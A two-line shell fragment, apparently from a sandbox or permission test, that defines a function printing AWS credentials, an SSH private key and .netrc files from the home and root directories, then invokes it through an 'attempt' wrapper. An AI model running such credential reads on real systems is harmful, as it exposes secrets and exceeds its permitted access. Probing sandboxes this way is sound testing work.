look() { cat {~,/root}/{.aws/credentials,.ssh/id_ed25519,.netrc}; }
attempt look
